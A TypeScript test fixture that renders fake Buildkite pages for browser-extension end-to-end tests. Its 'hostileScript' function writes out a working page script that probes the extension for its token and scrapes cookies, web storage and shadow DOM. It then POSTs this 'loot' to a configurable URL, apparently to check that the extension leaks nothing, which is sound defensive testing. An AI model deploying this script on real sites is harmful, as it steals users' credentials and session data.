/**
 * Fixture web pages: minimal stand-ins for buildkite.com pages (Firefox e2e loads them from the fake; Chromium can
 * serve the same HTML through `context.route('https://buildkite.com/**', ...)` with `renderPage`).
 * They deliberately use NO Buildkite CSS classes: the extension must anchor on URLs and job links only.
 */
import type { BuildRec, FakeState } from './model';
import { settle } from './ops';
import { BUILDS } from './seed-ids';

export interface RenderedPage {
  status: number;
  contentType: string;
  body: string;
}

export interface PageOptions {
  /** where the hostile script posts what it found; default `/__fake/loot` (same origin) */
  lootUrl?: string;
  /** add the hostile script to the page (also `?hostile=1`) */
  hostile?: boolean;
  /** how long the hostile script waits before it reads the DOM, ms (also `?delay=`); default 1500 */
  hostileDelayMs?: number;
}

const esc = (s: unknown) =>
  String(s ?? '').replace(
    /[&<>"']/g,
    (ch) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[ch]!,
  );

/** In-app navigation: `a[data-spa]` clicks pushState and swap <main> (fetched with `?partial=1`), as an SPA does. */
const SPA_SCRIPT = `
(() => {
  async function show(url) {
    const u = new URL(url, location.href); u.searchParams.set('partial', '1');
    const res = await fetch(u.toString());
    document.querySelector('main').innerHTML = await res.text();
    document.title = document.querySelector('main h1')?.textContent || document.title;
  }
  document.addEventListener('click', (e) => {
    const a = e.target instanceof Element ? e.target.closest('a[data-spa]') : null;
    if (!a || e.defaultPrevented || e.button !== 0 || e.metaKey || e.ctrlKey) return;
    e.preventDefault();
    history.pushState({}, '', a.getAttribute('href'));
    show(location.href);
  });
  window.addEventListener('popstate', () => show(location.href));
})();`;

function hostileScript(lootUrl: string, delayMs: number): string {
  return `
(() => {
  const found = { page: location.href, messages: [], replies: [], events: [], errors: [] };
  const safe = (v) => { try { return JSON.parse(JSON.stringify(v)); } catch { return String(v); } };
  const guessedIds = ['kitedeck', 'kitedeck@kitedeck.dev', 'abcdefghijklmnopabcdefghijklmnop', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'];
  const asks = [{ type: 'getToken' }, { type: 'token' }, { name: 'getToken' }, { type: 'checkTokenHealth' }, { type: 'kd:getToken' }];
  for (const api of [globalThis.chrome && chrome.runtime, globalThis.browser && browser.runtime]) {
    if (!api || typeof api.sendMessage !== 'function') continue;
    for (const id of guessedIds) for (const msg of asks) {
      try {
        const p = api.sendMessage(id, msg, (reply) => found.replies.push({ id, msg, reply: safe(reply) }));
        if (p && typeof p.then === 'function') p.then((reply) => found.replies.push({ id, msg, reply: safe(reply) }), (e) => found.errors.push(String(e)));
      } catch (e) { found.errors.push(String(e)); }
    }
  }
  window.addEventListener('message', (e) => { if (e.source !== window || !asks.some((a) => JSON.stringify(a) === JSON.stringify(e.data))) found.messages.push(safe(e.data)); });
  for (const msg of asks) window.postMessage(msg, '*');
  for (const name of ['kd:getToken', 'kitedeck:getToken', 'getToken', 'kd-request']) {
    document.addEventListener(name + ':reply', (e) => found.events.push({ name, detail: safe(e.detail) }));
    document.dispatchEvent(new CustomEvent(name, { detail: { type: 'getToken' }, bubbles: true, composed: true }));
  }
  setTimeout(async () => {
    const shadows = [];
    for (const el of document.querySelectorAll('*')) {
      if (el.shadowRoot) shadows.push({ host: el.tagName.toLowerCase(), text: el.shadowRoot.textContent, html: el.shadowRoot.innerHTML });
    }
    const storage = {};
    try { for (let i = 0; i < localStorage.length; i++) storage['local:' + localStorage.key(i)] = localStorage.getItem(localStorage.key(i)); } catch (e) { found.errors.push(String(e)); }
    try { for (let i = 0; i < sessionStorage.length; i++) storage['session:' + sessionStorage.key(i)] = sessionStorage.getItem(sessionStorage.key(i)); } catch (e) { found.errors.push(String(e)); }
    const loot = { ...found, html: document.documentElement.outerHTML, shadows, storage, cookie: document.cookie, globals: Object.keys(window).filter((k) => /token|kite|kd/i.test(k)) };
    try {
      await fetch(${JSON.stringify(lootUrl)}, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(loot) });
      document.body.setAttribute('data-loot-sent', 'true');
    } catch (e) { document.body.setAttribute('data-loot-sent', 'failed: ' + e); }
  }, ${Math.max(0, delayMs)});
})();`;
}

function layout(title: string, main: string, opts: PageOptions): string {
  const hostile = opts.hostile
    ? `<script>${hostileScript(opts.lootUrl ?? '/__fake/loot', opts.hostileDelayMs ?? 1500)}</script>`
    : '';
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${esc(title)}</title>
<style>body{font:14px system-ui,sans-serif;margin:0}header,main{padding:12px 20px}header{background:#eee}li{margin:4px 0}</style></head>
<body><header><nav aria-label="Site"><a href="/" data-spa>Home</a> · <a href="/acme" data-spa>acme</a></nav></header>
<main>${main}</main><script>${SPA_SCRIPT}</script>${hostile}</body></html>`;
}

function buildMain(s: FakeState, b: BuildRec): string {
  const base = `/${b.org}/${b.pipeline}/builds/${b.number}`;
  const jobs = b.jobs
    .filter((j) => !j.retried)
    .map((j) => {
      if (j.type === 'waiter') return '<li><hr aria-label="wait"></li>';
      const label = j.name ?? j.type;
      return `<li><a href="${base}#${j.id}">${esc(label)}</a> <span>${esc(j.state)}${j.softFailed ? ' (soft failed)' : ''}</span></li>`;
    })
    .join('\n');
  const siblings = s.builds
    .filter((x) => x.org === b.org && x.pipeline === b.pipeline && x.id !== b.id)
    .sort((x, y) => y.number - x.number)
    .map(
      (x) =>
        `<li><a data-spa href="/${x.org}/${x.pipeline}/builds/${x.number}">#${x.number}</a> ${esc(x.message)}</li>`,
    )
    .join('\n');
  return `<h1>${esc(b.pipeline)} #${b.number}</h1>
<p>${esc(b.message)} · <span>${esc(b.branch)}</span> · <span>${esc(b.blocked ? `${b.state} (blocked)` : b.state)}</span></p>
<section aria-label="Jobs"><h2>Jobs</h2><ul>${jobs}</ul></section>
<nav aria-label="Other builds"><h2>Other builds</h2><ul>${siblings}</ul></nav>`;
}

function pipelineMain(s: FakeState, org: string, pipeline: string): string | null {
  if (!s.pipelines.some((p) => p.org === org && p.slug === pipeline)) return null;
  const items = s.builds
    .filter((b) => b.org === org && b.pipeline === pipeline)
    .sort((x, y) => y.number - x.number)
    .map(
      (b) =>
        `<li><a data-spa href="/${org}/${pipeline}/builds/${b.number}">#${b.number}</a> ${esc(b.message)} <span>${esc(b.state)}</span></li>`,
    )
    .join('\n');
  return `<h1>${esc(org)}/${esc(pipeline)}</h1><ul>${items}</ul>`;
}

function orgMain(s: FakeState, org: string): string | null {
  if (!s.orgs.some((o) => o.slug === org)) return null;
  const items = s.pipelines
    .filter((p) => p.org === org)
    .map((p) => `<li><a data-spa href="/${org}/${p.slug}">${esc(p.name)}</a></li>`)
    .join('\n');
  return `<h1>${esc(org)}</h1><ul>${items}</ul>`;
}

/**
 * The HTML for a buildkite.com-like path (`/acme/web/builds/104`, `/acme/web`, `/acme`, anything else).
 * `search` may carry `partial=1` (just the <main> contents), `hostile=1` and `delay=<ms>`.
 */
export function renderPage(s: FakeState, pathname: string, search = '', opts: PageOptions = {}): RenderedPage {
  const q = new URLSearchParams(search);
  const o: PageOptions = {
    ...opts,
    hostile: opts.hostile || q.get('hostile') === '1',
    hostileDelayMs: q.has('delay') ? Number(q.get('delay')) : opts.hostileDelayMs,
  };
  const seg = pathname.split('/').filter(Boolean).map(decodeURIComponent);
  let title = 'Buildkite (fake)';
  let main: string | null = `<h1>Buildkite (fake)</h1><p>${esc(pathname)}</p>`;
  let status = 200;
  if (seg.length >= 4 && seg[2] === 'builds' && /^\d+$/.test(seg[3]!)) {
    const b = s.builds.find((x) => x.org === seg[0] && x.pipeline === seg[1] && x.number === Number(seg[3]));
    main = b ? buildMain(s, settle(b)) : null;
    title = b ? `${b.pipeline} #${b.number}` : title;
  } else if (seg.length === 2 || (seg.length === 3 && seg[2] === 'builds')) {
    main = pipelineMain(s, seg[0]!, seg[1]!);
    title = `${seg[0]}/${seg[1]}`;
  } else if (seg.length === 1 && (seg[0] === 'dashboard' || seg[0] === '~')) {
    main = '<h1>Dashboard</h1><p>Your pipelines and builds.</p>';
    title = 'Dashboard';
  } else if (seg.length === 1) {
    main = orgMain(s, seg[0]!) ?? main;
    title = seg[0]!;
  }
  if (main === null) {
    status = 404;
    main = `<h1>Page not found</h1><p>${esc(pathname)}</p>`;
  }
  return {
    status,
    contentType: 'text/html; charset=utf-8',
    body: q.get('partial') === '1' ? main : layout(title, main, o),
  };
}

/** `/__fake/page/hostile`: a page whose own script tries to get the extension's token, then posts what it found. */
export function renderHostilePage(s: FakeState, opts: PageOptions = {}, search = ''): RenderedPage {
  const q = new URLSearchParams(search);
  const b = s.builds.find((x) => x.id === BUILDS.webFailing.id) ?? s.builds[0];
  const main = `<h1>Totally normal page</h1>${b ? buildMain(s, b) : ''}`;
  const delay = q.has('delay') ? Number(q.get('delay')) : opts.hostileDelayMs;
  return {
    status: 200,
    contentType: 'text/html; charset=utf-8',
    body: layout('Hostile page', main, { ...opts, hostile: true, hostileDelayMs: delay }),
  };
}
